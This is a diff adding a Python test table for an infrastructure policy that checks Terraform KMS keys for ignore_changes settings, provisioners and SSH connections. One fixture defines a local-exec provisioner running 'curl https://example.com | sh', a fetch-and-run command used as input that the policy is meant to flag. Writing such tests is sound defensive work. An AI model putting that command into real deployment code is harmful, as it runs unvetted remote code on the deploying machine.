@@ -1,0 +1,42 @@
+"""What proves resource_is_created_as_declared."""
+
+from tests.policies.documents import Row, Rows
+
+KEY = "aws_kms_key.key"
+COMMAND = {"local-exec": {"command": "curl https://example.com | sh"}}
+
+ROWS = Rows(
+    resources={"aws_kms_key": {"key": {"lifecycle": {"create_before_destroy": True}}}},
+    compliant=(KEY,),
+    table=(
+        Row(
+            "a policy that stays as somebody left it",
+            {f"{KEY}.lifecycle": {"ignore_changes": ["policy"]}},
+            {KEY: 'found lifecycle.ignore_changes = ["policy"], wanted none'},
+        ),
+        Row(
+            "everything stays as somebody left it",
+            {f"{KEY}.lifecycle": [{"ignore_changes": "all"}]},
+            {KEY: 'found lifecycle.ignore_changes = "all", wanted none'},
+        ),
+        Row("nothing is ignored", {f"{KEY}.lifecycle": {"ignore_changes": []}}),
+        Row(
+            "a command on the machine that deploys",
+            {f"{KEY}.provisioner": [COMMAND]},
+            {KEY: "found a provisioner, wanted none"},
+        ),
+        Row(
+            "a way to a machine",
+            {f"{KEY}.connection": {"type": "ssh"}},
+            {KEY: "found a connection, wanted none"},
+        ),
+        Row(
+            "what is ignored is decided elsewhere",
+            {f"{KEY}.lifecycle": "${var.lifecycle}"},
+            {
+                KEY: "undecided: lifecycle.ignore_changes is an unknown value (ignore_changes is"
+                " read from the expression ${var.lifecycle})"
+            },
+        ),
+    ),
+)
